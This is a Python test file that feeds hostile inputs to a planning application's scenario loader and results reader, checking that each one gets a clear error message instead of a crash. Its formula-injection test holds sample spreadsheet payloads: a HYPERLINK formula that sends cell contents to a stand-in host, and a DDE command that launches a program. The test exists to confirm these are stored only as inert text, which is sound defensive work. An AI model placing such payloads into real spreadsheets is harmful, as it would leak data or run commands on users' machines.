"""Hostile scenario inputs (issue 13, items 1-3, 6, 9, 10): a Problem naming file, row and column, never a traceback.

Each test is a case that once crashed, passed validation silently, or
wrote something unsafe; together with a small seeded part of the fuzz run
(``benchmarks/fuzz_inputs.py``).
"""

from __future__ import annotations

import json
import os
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from benchmarks.fuzz_inputs import base_scenario, fuzz
from sufficiency_app.io import load_scenario, read_scenario, write_scenario
from sufficiency_app.io.folder import write_folder
from sufficiency_app.io.parameters import FORMAT_VERSION
from sufficiency_app.io.results import SavedPlanError, read_results, write_plan, write_results
from sufficiency_app.model.plan import LevelResult, PlanResult


@pytest.fixture
def county(tmp_path: Path) -> Path:
    folder = tmp_path / "county"
    write_scenario(base_scenario(), folder)
    return folder


def errors(folder: Path) -> list:
    scenario, problems = load_scenario(folder)
    found = [p for p in problems if p.severity == "error"]
    assert scenario is None and found, "the scenario should have been refused"
    return found


def set_cell(folder: Path, name: str, row: int, column: str, value: str) -> None:
    frame = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
    frame.loc[row, column] = value
    frame.to_csv(folder / name, index=False)


def set_toml(folder: Path, text: str) -> None:
    (folder / "scenario.toml").write_text(text, encoding="utf-8")


def edit_toml(folder: Path, key: str, value: object) -> None:
    """Set a dotted key of scenario.toml (tables created as needed)."""
    import tomllib

    import tomli_w

    tree = tomllib.loads((folder / "scenario.toml").read_text())
    *parents, last = key.split(".")
    node = tree
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = value
    set_toml(folder, tomli_w.dumps(tree))


def geojson(folder: Path) -> dict:
    return json.loads((folder / "areas.geojson").read_text(encoding="utf-8"))


def put_geojson(folder: Path, doc: dict) -> None:
    (folder / "areas.geojson").write_text(json.dumps(doc), encoding="utf-8")


# ------------------------------------------------------ 1. coordinates and CRS

def test_grid_metres_without_crs_are_read_as_british_national_grid(county):
    doc = geojson(county)
    del doc["crs"]  # GDAL would take these metres for degrees and reproject them to infinity
    put_geojson(county, doc)
    scenario, problems = load_scenario(county)
    assert scenario is not None
    assert scenario.areas.total_bounds[0] == pytest.approx(400000)
    warning = next(p for p in problems if p.file == "areas.geojson")
    assert warning.severity == "warning" and "EPSG:27700" in warning.message


def test_points_in_metres_without_crs_are_read_as_grid_too(county):
    doc = geojson(county)
    del doc["crs"]
    for i, feature in enumerate(doc["features"]):
        feature["geometry"] = {"type": "Point", "coordinates": [405000.0 + 10000 * i, 105000.0]}
    put_geojson(county, doc)
    scenario, _ = load_scenario(county)
    assert scenario is not None and scenario.areas.geometry.x.iloc[0] == pytest.approx(405000)


def test_areas_outside_great_britain_are_refused_by_feature(county):
    doc = geojson(county)
    ring = doc["features"][2]["geometry"]["coordinates"][0]
    doc["features"][2]["geometry"]["coordinates"][0] = [[x + 5e6, y] for x, y in ring]
    put_geojson(county, doc)
    found = errors(county)
    assert [(p.file, p.row, p.column) for p in found] == [("areas.geojson", 4, "geometry")]
    assert "outside Great Britain" in found[0].message and "A2" in found[0].message


def test_degrees_in_a_file_that_says_degrees_but_lie_in_the_sea_are_refused(county):
    doc = geojson(county)
    del doc["crs"]
    for feature in doc["features"]:
        feature["geometry"] = {"type": "Point", "coordinates": [30.0, 10.0]}  # degrees, but in Africa
    put_geojson(county, doc)
    assert {p.row for p in errors(county)} == {2, 3, 4, 5}


@pytest.mark.parametrize("value", ["1e308", "-1e308", "5000000"])
def test_a_huge_centroid_is_refused(county, value):
    doc = geojson(county)
    doc["features"][1]["geometry"] = None
    doc["features"][1]["properties"].update(centroid_easting=float(value), centroid_northing=105000.0)
    put_geojson(county, doc)
    found = errors(county)
    assert ("areas.geojson", 3, "centroid_easting") in {(p.file, p.row, p.column) for p in found}


def test_a_setting_outside_great_britain_is_refused_even_without_area_shapes(county):
    scenario = read_scenario(county)
    areas = scenario.areas.assign(centroid_easting=405000.0, centroid_northing=105000.0)
    areas = areas.set_geometry([None] * len(areas), crs="EPSG:27700")
    provisions = scenario.provisions.assign(easting=1e308)
    from sufficiency_app.model.validation import validate

    found = [p for p in validate(scenario.replace(areas=areas, provisions=provisions)) if p.severity == "error"]
    assert [(p.file, p.row, p.column) for p in found] == [("provisions.csv", 2, "easting")]
    assert "outside Great Britain" in found[0].message


# ------------------------------------------------------ 2. plausible ranges

@pytest.mark.parametrize("name, column, value", [
    ("demand.csv", "count", "1e300"),
    ("demand.csv", "count", "1000000"),
    ("demand.csv", "year", "1e300"),
    ("provisions.csv", "capacity", "1e12"),
    ("provisions.csv", "cost_per_place", "1e11"),
    ("options.csv", "capital_per_module", "1e308"),
    ("options.csv", "module_places", "1e7"),
    ("options.csv", "earliest_year", "1e20"),
    ("options.csv", "easting", "1e308"),
    ("travel.csv", "minutes", "1e308"),
    ("travel.csv", "minutes", "1000"),
])
def test_huge_numbers_are_refused_with_file_row_and_column(county, name, column, value):
    set_cell(county, name, 0, column, value)
    found = errors(county)
    assert (name, 2, column) in {(p.file, p.row, p.column) for p in found}


@pytest.mark.parametrize("key, value", [
    ("travel.detour_factor", 1e308),
    ("travel.detour_factor", 0.5),
    ("travel.speed_kmh", 1e-300),
    ("travel.speed_kmh", 500),
    ("travel.independent_minutes", 1e308),
    ("travel.max_minutes.PRI", 1e308),
    ("costs.independent_place", 1e308),
    ("base_year", 10**9),
])
def test_implausible_settings_are_refused(county, key, value):
    edit_toml(county, key, value)
    found = errors(county)
    assert any(p.file == "scenario.toml" and p.column == key for p in found), [str(p) for p in found]


def test_huge_budget_is_refused(county):
    edit_toml(county, "budget.capital", [1e308, 1.0])
    assert any(p.column == "budget.capital[0]" for p in errors(county))


# ------------------------------------------------------ 3. scenario.toml shape

@pytest.mark.parametrize("key, value, column", [
    ("travel", 5, "travel"),
    ("costs", "x", "costs"),
    ("budget", [1, 2], "budget"),
    ("name", [1, 2], "name"),
    ("name", "x" * 300, "name"),
    ("currency", {"a": 1}, "currency"),
    ("notes", "x" * 20_000, "notes"),
    ("roads.list", [1] * 2000, "roads.list"),
    ("deep", json.loads('{"a": ' * 12 + "1" + "}" * 12), None),
])
def test_every_toml_key_is_checked_for_type_and_length(county, key, value, column):
    edit_toml(county, key, value)
    found = [p for p in errors(county) if p.file == "scenario.toml"]
    assert found and (column is None or column in {p.column for p in found}), [str(p) for p in found]


def test_deeply_nested_toml_is_refused_not_a_recursion_error(county):
    set_toml(county, "a = " + "[" * 5000 + "]" * 5000 + "\n")
    assert any(p.file == "scenario.toml" for p in errors(county))


def test_deeply_nested_json_in_a_workbook_parameter_is_refused(tmp_path):
    from openpyxl import load_workbook

    book = tmp_path / "county.xlsx"
    write_scenario(base_scenario(), book)
    wb = load_workbook(book)
    wb["Parameters"].append(["deep", "[" * 5000 + "]" * 5000])
    wb.save(book)
    scenario, problems = load_scenario(book)
    assert scenario is None and any("Parameters" in p.file for p in problems)


# ------------------------------------------------------ 6. encodings and rings

def test_a_utf16_csv_is_read_with_a_warning(county):
    for name, sep in (("demand.csv", ","), ("travel.csv", "\t")):  # Excel's "Unicode text" is tab-separated
        frame = pd.read_csv(county / name, dtype=str, keep_default_na=False)
        (county / name).write_bytes(frame.to_csv(index=False, sep=sep).encode("utf-16"))
    scenario, problems = load_scenario(county)
    assert scenario is not None and scenario.demand["count"].sum() == 160
    assert scenario.travel["minutes"].tolist() == [12.0]
    assert {p.file for p in problems if "UTF-16" in p.message} == {"demand.csv", "travel.csv"}


def test_a_utf16_csv_without_its_bom_says_how_to_save_it(county):
    text = (county / "demand.csv").read_text()
    (county / "demand.csv").write_bytes(text.encode("utf-16-le"))
    found = errors(county)
    assert found[0].file == "demand.csv" and "UTF-16" in found[0].message and "UTF-8" in found[0].message
    assert "Expected" not in found[0].message


@pytest.mark.filterwarnings("ignore:Non closed ring:RuntimeWarning")  # GDAL's own note on the same ring
def test_an_unclosed_ring_names_its_feature(county):
    doc = geojson(county)
    doc["features"][2]["geometry"]["coordinates"][0] = doc["features"][2]["geometry"]["coordinates"][0][:3]
    put_geojson(county, doc)
    found = errors(county)
    assert [(p.file, p.row, p.column) for p in found] == [("areas.geojson", 4, "geometry")]
    assert "feature 3" in found[0].message and "'A2'" in found[0].message


def test_a_self_intersecting_polygon_is_named_in_a_warning(county):
    doc = geojson(county)
    x, y = 420000, 100000
    doc["features"][2]["geometry"]["coordinates"][0] = [[x, y], [x + 10000, y + 10000], [x + 10000, y],
                                                        [x, y + 10000], [x, y]]
    put_geojson(county, doc)
    scenario, problems = load_scenario(county)
    assert scenario is not None
    warning = next(p for p in problems if p.column == "geometry")
    assert warning.row == 4 and "A2" in warning.message and "Self-intersection" in warning.message


# ------------------------------------------------------ 9. whole folders

def test_write_folder_replaces_the_folder_whole_and_keeps_user_files(county):
    (county / "notes.txt").write_text("mine")
    (county / "history.csv").write_text("stale")  # owned by the format: the scenario has none now
    changed = base_scenario().replace(demand=base_scenario().demand.assign(count=7.0))
    write_folder(changed, county)
    assert (county / "notes.txt").read_text() == "mine" and not (county / "history.csv").exists()
    assert read_scenario(county).demand["count"].tolist() == [7.0] * 8
    assert sorted(p.name for p in county.parent.iterdir()) == ["county"]


def test_a_swap_interrupted_after_the_old_folder_moved_aside_is_finished_on_the_next_read(county, tmp_path):
    write_scenario(base_scenario().replace(demand=base_scenario().demand.assign(count=9.0)), tmp_path / "new")
    (tmp_path / "new").rename(tmp_path / ".county.sufficiency-new")
    county.rename(tmp_path / ".county.sufficiency-old")  # killed between the two renames
    assert read_scenario(county).demand["count"].tolist() == [9.0] * 8
    assert sorted(p.name for p in tmp_path.iterdir()) == ["county"]


def test_a_swap_interrupted_before_the_new_folder_was_complete_is_rolled_back(county, tmp_path):
    from sufficiency_app.infra.atomic import owner_tag

    leftover = tmp_path / f".county.{owner_tag().replace(str(os.getpid()), '999999999')}.sufficiency-tmp"
    leftover.mkdir()  # a killed writer's half-written folder
    (leftover / "demand.csv").write_text("half")
    assert read_scenario(county).demand["count"].tolist() == [20.0] * 8
    assert sorted(p.name for p in tmp_path.iterdir()) == ["county"]


# ------------------------------------------------------ 5. results folders

def plan() -> PlanResult:
    empty = pd.DataFrame()
    return PlanResult("optimal", empty, empty, empty, (LevelResult("independent", 1.0, 1.0, "optimal"),),
                      0.0, 1.0, "highs", "abc")


@pytest.mark.parametrize("meta", [
    "[" * 100_000 + "]" * 100_000,
    json.dumps({"status": 5, "levels": []}),
    json.dumps({"status": "optimal", "levels": "x"}),
    json.dumps({"status": "optimal", "levels": [5]}),
    json.dumps({"status": "optimal", "levels": [{"name": "independent", "value": "x", "bound": None}]}),
    json.dumps({"status": "optimal", "levels": [], "gap": [1]}),
    json.dumps({"status": "optimal", "levels": [], "model_size": [1]}),
    json.dumps({"status": "optimal", "levels": [], "message": {"a": 1}}),
    json.dumps([1, 2]),
    "\xff\xfe",
])
def test_a_damaged_solve_json_gives_a_sentence(tmp_path, meta):
    write_results(plan(), tmp_path / "r")
    (tmp_path / "r" / "solve.json").write_text(meta, encoding="latin-1")
    with pytest.raises(SavedPlanError, match="solve again"):
        read_results(tmp_path / "r")


def test_text_in_a_numeric_results_column_gives_a_sentence(tmp_path):
    write_results(plan(), tmp_path / "r")
    (tmp_path / "r" / "summary.csv").write_text("year,demand\n2025,lots\n")
    with pytest.raises(SavedPlanError, match="summary.csv's column demand"):
        read_results(tmp_path / "r")


def test_write_plan_swaps_results_and_scenario_in_together(tmp_path):
    folder = tmp_path / "plan"
    write_plan(plan(), base_scenario(), folder)
    write_plan(plan(), base_scenario().replace(demand=base_scenario().demand.assign(count=3.0)), folder)
    assert read_scenario(folder / "scenario").demand["count"].tolist() == [3.0] * 8
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan"]


# ------------------------------------------------------ 10. formula injection

def test_the_scenario_workbook_never_holds_a_live_formula(tmp_path):
    from openpyxl import load_workbook

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
    s = base_scenario()
    provisions = s.provisions.assign(name=hostile[0], urn=hostile[1])
    book = tmp_path / "county.xlsx"
    write_scenario(s.replace(provisions=provisions, areas=s.areas.assign(name=hostile[1:])), book)
    with zipfile.ZipFile(book) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)
    wb = load_workbook(book)
    cell = next(c for row in wb["Provisions"].iter_rows() for c in row if c.value == hostile[0])
    assert cell.data_type == "s" and cell.quotePrefix
    assert read_scenario(book).provisions["name"].iloc[0] == hostile[0]  # the text itself is kept


# ------------------------------------------------------ fuzz (a small seeded part)

def test_fuzzed_scenarios_never_raise():
    counts, _ = fuzz(40, seed=13, solve=False)
    assert not {k: n for k, n in counts.items() if k.startswith("crash")}, counts
    assert counts["refused"] > 0 and sum(counts.values()) == 40


# ------------------------------------------------------ issue 22: numbers given as text are errors, not guesses

@pytest.mark.parametrize("key, value", [
    ("transport.per_km", "1,5"),  # once read as 15.0
    ("transport.per_km", "0.5"),
    ("travel.speed_kmh", "40"),
    ("travel.max_minutes.PRI", "45"),
    ("costs.independent_place", "£60,000"),
    ("base_year", "2025"),
    ("horizon", "2"),
    ("budget.capital", "3000000"),
    ("placements.independent_stay", "0.5"),
])
def test_a_number_written_as_text_in_scenario_toml_is_an_error(county, key, value):
    edit_toml(county, key, value)
    found = [p for p in errors(county) if p.file == "scenario.toml"]
    assert found[0].column == key, [str(p) for p in found]  # (a horizon refused also refuses the budget's length)
    assert f"{key} = {value!r}: expected" in found[0].message
    if key != "budget.capital":
        assert "written as text in quotes: give the number itself" in found[0].message


@pytest.mark.parametrize("value", ["2", 2.0, 0, -1, True, 10**30])
def test_format_version_must_be_a_whole_number_from_1(county, value):
    edit_toml(county, "format_version", value)
    found = [p for p in errors(county) if p.column == "format_version"]
    assert len(found) == 1
    if value == 10**30:
        assert "written by a newer version of the planner" in found[0].message
    else:
        assert f"format_version = {value!r} is not a whole number from 1 to {FORMAT_VERSION}" in found[0].message


@pytest.mark.parametrize("value", ["2", 0, -3, 1.0])
def test_a_results_folders_format_version_must_be_a_whole_number_from_1(tmp_path, value):
    write_results(plan(), tmp_path / "r")
    meta = json.loads((tmp_path / "r" / "solve.json").read_text())
    (tmp_path / "r" / "solve.json").write_text(json.dumps({**meta, "format_version": value}))
    with pytest.raises(SavedPlanError, match=f"format_version = {re.escape(repr(value))} is not a whole number"):
        read_results(tmp_path / "r")


def test_a_workbook_cell_holding_a_number_as_text_is_that_number_but_a_guess_is_an_error(tmp_path):
    from openpyxl import load_workbook

    book = tmp_path / "county.xlsx"
    write_scenario(base_scenario(), book)
    wb = load_workbook(book)
    sheet = wb["Parameters"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == "travel.speed_kmh":
            row[1].value = " 45 "  # a cell formatted as text
    sheet.append(["transport.per_km", "1,5"])
    wb.save(book)
    scenario, problems = load_scenario(book)
    found = [p for p in problems if p.severity == "error"]
    assert scenario is None and [p.column for p in found] == ["transport.per_km"], [str(p) for p in found]
    sheet.delete_rows(sheet.max_row)
    wb.save(book)
    assert read_scenario(book).parameters.speed_kmh == 45.0


# ------------------------------------------------------ issue 22: a saved plan checked against its own scenario

@pytest.fixture(scope="module")
def solved(tmp_path_factory) -> Path:
    from sufficiency_app.solver import solve
    from sufficiency_app.solver.api import SolveOptions

    folder = tmp_path_factory.mktemp("solved") / "plan"
    write_plan(solve(base_scenario(), SolveOptions(time_limit=20, explain=False)), base_scenario(), folder)
    return folder


def tampered(solved: Path, tmp_path: Path, name: str, column: str, value: str, row: int = 0) -> Path:
    import shutil

    folder = tmp_path / "plan"
    shutil.copytree(solved, folder)
    set_cell(folder, name, row, column, value)
    return folder


@pytest.mark.parametrize("name, column, value, expected", [
    ("allocation.csv", "count", "-5", "'-5' is not a number from 0 to 10,000,000"),
    ("allocation.csv", "count", "1e308", "'1e+308' is not a number from 0"),
    ("allocation.csv", "count", "inf", "'inf' is not a number from 0"),
    ("allocation.csv", "count", "", "a blank cell is not a number from 0 to 10,000,000"),
    ("allocation.csv", "year", "1e9", "'1e+09' is not one of the scenario's years"),
    ("allocation.csv", "area_id", "Z9", "'Z9' is not one of the scenario's area ids"),
    ("allocation.csv", "provision_id", "Nowhere", "'Nowhere' is not one of the scenario's setting ids"),
    ("allocation.csv", "need", "XYZ", "'XYZ' is not one of the scenario's need codes"),
    ("allocation.csv", "minutes", "-1", "'-1' is not a number from 0 to 10,000 or blank"),
    ("schedule.csv", "option_id", "O9", "'O9' is not one of the scenario's option ids"),
    ("schedule.csv", "places", "1e308", "'1e+308' is not a number from 0"),
    ("schedule.csv", "year", "2099", "'2099' is not one of the scenario's years"),
    ("summary.csv", "spe_a", "7", "'7' is not a number from 0 to 1 or blank"),
])
def test_a_tampered_plan_is_refused_naming_file_row_and_column(solved, tmp_path, name, column, value, expected):
    from sufficiency_app.io.results import read_plan

    folder = tampered(solved, tmp_path, name, column, value)
    with pytest.raises(SavedPlanError) as info:
        read_plan(folder)
    message = str(info.value)
    assert message.startswith(f"plan/{name}, row 2, column {column}: ") and expected in message, message
    assert "solve again" in message


def test_the_untouched_plan_reads(solved):
    from sufficiency_app.io.results import read_plan

    scenario, plan = read_plan(solved)
    assert plan.allocation["count"].sum() == scenario.demand["count"].sum()


@pytest.mark.parametrize("name, column, value, words", [
    ("allocation.csv", "count", "inf", "plan/allocation.csv, row 2, column count: 'inf' is not a number"),
    ("allocation.csv", "year", "1e9", "plan/allocation.csv, row 2, column year: '1e+09' is not one of"),
    ("scenario/provisions.csv", "name", "x" * 10_000,
     "provisions.csv, row 2, column name: name of 10,000 characters; at most 200 are read"),
])
def test_report_on_a_tampered_plan_is_a_message_not_a_traceback(solved, tmp_path, capsys, name, column, value, words):
    from sufficiency_app.cli import main

    folder = tampered(solved, tmp_path, name, column, value)
    assert main(["report", str(folder), "--out", str(tmp_path / "r.pdf")]) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and words in captured.err, captured.err
    assert not (tmp_path / "r.pdf").exists()


def test_a_tampered_plan_in_a_project_is_refused_naming_file_row_and_column(solved, tmp_path):
    from sufficiency_app.io.project_file import Project, ProjectEntry, ProjectFileError, load_project, save_project
    from sufficiency_app.io.results import read_plan

    scenario, plan = read_plan(solved)
    bad = plan.allocation.copy()
    bad.loc[1, "count"] = -3.0
    path = tmp_path / "p.sufficiency"
    save_project(Project((ProjectEntry(scenario, result=plan.__class__(**{**plan.__dict__, "allocation": bad})),)),
                 path)
    with pytest.raises(ProjectFileError, match=r"result/allocation.csv, row 3, column count: '-3' is not a number"):
        load_project(path)
